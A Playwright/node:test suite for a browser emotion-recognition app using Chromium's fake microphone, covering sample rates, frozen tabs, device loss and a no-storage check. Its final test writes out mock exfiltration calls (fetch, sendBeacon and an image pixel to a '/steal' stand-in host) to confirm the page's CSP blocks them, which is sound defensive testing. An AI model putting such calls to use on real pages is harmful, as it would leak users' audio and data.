// Odd devices and long-lived tabs, with Chromium's fake microphone: audio contexts at
// 44.1, 48 and 96 kHz, a tab that is hidden (frozen) and comes back, a microphone that
// disappears mid-stream. Then what a session leaves behind: nothing but the app's files.
import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { RAVDESS, cliResults, launchBrowser, startServer, tempDir } from "./helpers.mjs";

let server, origin;
const dir = tempDir();
// A clip the model is sure about, so the label cannot flip with the loop's phase.
const speechWav = join(dir, "happy-48k.wav");
execFileSync("sox", [join(RAVDESS, "Actor_03/03-01-03-02-02-02-03.flac"), "-r", "48000", "-c", "1", "-b", "16", speechWav]);
const fakeMic = [
  "--use-fake-ui-for-media-stream",
  "--use-fake-device-for-media-stream",
  `--use-file-for-fake-audio-capture=${speechWav}`,
];

before(async () => ({ server, origin } = await startServer()));
after(() => server?.close());

/** Opens the page with the AudioContext forced to `rate` (null: the device's own) and the
 * microphone stream kept reachable, so a test can make the device vanish. */
async function openPage(browser, rate = null) {
  const page = await browser.newPage();
  page.on("pageerror", (e) => console.error("page error:", e.message));
  await page.addInitScript((forcedRate) => {
    const Native = window.AudioContext;
    window.AudioContext = class extends Native {
      constructor(options = {}) {
        super(forcedRate ? { ...options, sampleRate: forcedRate } : options);
        window.__contextRate = this.sampleRate;
        window.__context = this;
      }
    };
    const getUserMedia = navigator.mediaDevices.getUserMedia.bind(navigator.mediaDevices);
    navigator.mediaDevices.getUserMedia = async (constraints) => (window.__mic = await getUserMedia(constraints));
  }, rate);
  await page.goto(origin + "/");
  await page.waitForFunction(() => !document.getElementById("start").disabled, null, { timeout: 60_000 });
  return page;
}

const entryCount = (page) => page.evaluate(() => Number(document.getElementById("session-summary").dataset.updates ?? 0));
const waitForEntries = (page, n) =>
  page.waitForFunction((n) => Number(document.getElementById("session-summary").dataset.updates ?? 0) >= n, n, { timeout: 60_000 });

for (const rate of [44_100, 48_000, 96_000]) {
  test(`an audio context at ${rate / 1000} kHz gives the CLI's label`, async () => {
    const [expected] = cliResults([speechWav]);
    const browser = await launchBrowser(fakeMic);
    try {
      const page = await openPage(browser, rate);
      await page.click("#start");
      await waitForEntries(page, 32);
      assert.equal(await page.evaluate(() => window.__contextRate), rate);
      assert.equal(await page.locator("#session-summary").getAttribute("data-label"), expected.label);
      assert.equal(await page.locator("#error").isVisible(), false);
    } finally {
      await browser.close();
    }
  });
}

test("a tab that is hidden and frozen keeps working when it comes back", async () => {
  const browser = await launchBrowser(fakeMic);
  try {
    const page = await openPage(browser);
    await page.click("#start");
    await waitForEntries(page, 4);
    const cdp = await page.context().newCDPSession(page);
    // Headless tabs never report "hidden" by themselves: tell the page what a browser
    // tells it, then freeze it as a browser does with background tabs.
    const setVisibility = (state) => page.evaluate((state) => {
      Object.defineProperty(document, "visibilityState", { value: state, configurable: true });
      Object.defineProperty(document, "hidden", { value: state === "hidden", configurable: true });
      document.dispatchEvent(new Event("visibilitychange"));
    }, state);
    await setVisibility("hidden");
    await cdp.send("Page.setWebLifecycleState", { state: "frozen" });
    await new Promise((r) => setTimeout(r, 3000));
    await cdp.send("Page.setWebLifecycleState", { state: "active" });
    await setVisibility("visible");
    const before = await entryCount(page);
    await waitForEntries(page, before + 8); // two more seconds of updates
    assert.equal(await page.locator("#error").isVisible(), false);
    assert.equal(await page.locator("#stop").isVisible(), true);
    const [download] = await Promise.all([page.waitForEvent("download"), page.click("#export-json")]);
    const times = JSON.parse(readFileSync(await download.path(), "utf8")).predictions.map((e) => e.time_s);
    assert.ok(times.every((t, i) => i === 0 || t > times[i - 1]), "the timeline stays in order");
  } finally {
    await browser.close();
  }
});

test("a microphone that disappears mid-stream stops listening with a message", async () => {
  const browser = await launchBrowser(fakeMic);
  try {
    const page = await openPage(browser);
    await page.click("#start");
    await waitForEntries(page, 4);
    // What the browser does when the device is unplugged: the track ends.
    await page.evaluate(() => window.__mic.getAudioTracks()[0].dispatchEvent(new Event("ended")));
    await page.locator("#error").waitFor({ state: "visible", timeout: 10_000 });
    assert.match(await page.locator("#error").textContent(), /microphone was disconnected/);
    assert.equal(await page.locator("#start").isVisible(), true);
    assert.equal(await page.evaluate(() => window.__mic.getAudioTracks()[0].readyState), "ended", "the device is released");
    const stopped = await entryCount(page);
    await page.waitForTimeout(1500);
    assert.equal(await entryCount(page), stopped, "no predictions after the device left");
    // And listening works again when a device is back.
    await page.click("#start");
    await waitForEntries(page, stopped + 4);
  } finally {
    await browser.close();
  }
});

test("an audio context the browser suspends mid-stream stops listening with a message", async () => {
  const browser = await launchBrowser(fakeMic);
  try {
    const page = await openPage(browser);
    await page.click("#start");
    await waitForEntries(page, 4);
    await page.evaluate(() => window.__context.suspend()); // as on some mobile browsers when audio focus is lost
    await page.locator("#error").waitFor({ state: "visible", timeout: 10_000 });
    assert.match(await page.locator("#error").textContent(), /paused audio\. Press Start/);
    await page.click("#start");
    const resumed = await entryCount(page);
    await waitForEntries(page, resumed + 4);
    assert.equal(await page.evaluate(() => window.__context.state), "running");
  } finally {
    await browser.close();
  }
});

test("audio output that never starts ends \"Starting…\" with a message within a few seconds", async () => {
  // As in a browser with no sound device or sound server: resume() never settles.
  const browser = await launchBrowser(fakeMic);
  try {
    const page = await browser.newPage();
    await page.addInitScript(() => {
      AudioContext.prototype.resume = () => new Promise(() => {});
      const getUserMedia = navigator.mediaDevices.getUserMedia.bind(navigator.mediaDevices);
      navigator.mediaDevices.getUserMedia = async (c) => {
        const stream = await getUserMedia(c);
        window.__micTracks = stream.getAudioTracks();
        return stream;
      };
    });
    await page.goto(origin + "/");
    await page.waitForFunction(() => !document.getElementById("start").disabled, null, { timeout: 60_000 });
    const clicked = Date.now();
    await page.click("#start");
    await page.locator("#error").waitFor({ state: "visible", timeout: 15_000 });
    assert.match(await page.locator("#error").textContent(), /did not start within 5 s: .*no working sound output.*press Start again/);
    assert.ok(Date.now() - clicked < 12_000);
    assert.equal(await page.locator("#start").isEnabled(), true, "Start can be pressed again");
    const tracks = await page.evaluate(() => window.__micTracks.map((t) => t.readyState));
    assert.ok(tracks.length > 0 && tracks.every((s) => s === "ended"), `the microphone is released: ${tracks}`);
  } finally {
    await browser.close();
  }
});

test("a session stores nothing: no storage, cookies or cached audio, and the CSP blocks exfiltration", async () => {
  const browser = await launchBrowser(fakeMic);
  try {
    const page = await openPage(browser);
    await page.click("#start");
    await waitForEntries(page, 8);
    await page.click("#stop");
    const stored = await page.evaluate(async () => ({
      local: localStorage.length,
      session: sessionStorage.length,
      cookies: document.cookie,
      databases: (await indexedDB.databases()).length,
      cached: (await Promise.all((await caches.keys()).map(async (k) => (await (await caches.open(k)).keys()).map((r) => r.url)))).flat(),
    }));
    assert.deepEqual([stored.local, stored.session, stored.cookies, stored.databases], [0, 0, "", 0]);
    for (const url of stored.cached) {
      assert.ok(url.startsWith(origin + "/"), url);
      assert.match(new URL(url).pathname, /(\/|\.(html|js|css|svg|webmanifest|wasm|json|onnx))$/, url);
    }
    // The page's own CSP stops a script from sending anything elsewhere.
    const attempt = await page.evaluate(async () => {
      const violations = [];
      document.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective));
      const fetched = await fetch("http://127.0.0.2:9/steal", { method: "POST", body: "audio" }).then(() => "sent", (e) => e.name);
      const beacon = navigator.sendBeacon("http://127.0.0.2:9/steal", "audio");
      const img = await new Promise((resolve) => {
        const i = new Image();
        i.onload = () => resolve("loaded");
        i.onerror = () => resolve("blocked");
        i.src = "http://127.0.0.2:9/pixel.png";
      });
      await new Promise((r) => setTimeout(r, 200));
      return { fetched, beacon, img, violations };
    });
    assert.equal(attempt.fetched, "TypeError");
    assert.equal(attempt.img, "blocked");
    assert.ok(attempt.violations.includes("connect-src") && attempt.violations.includes("img-src"), attempt.violations.join());
  } finally {
    await browser.close();
  }
});
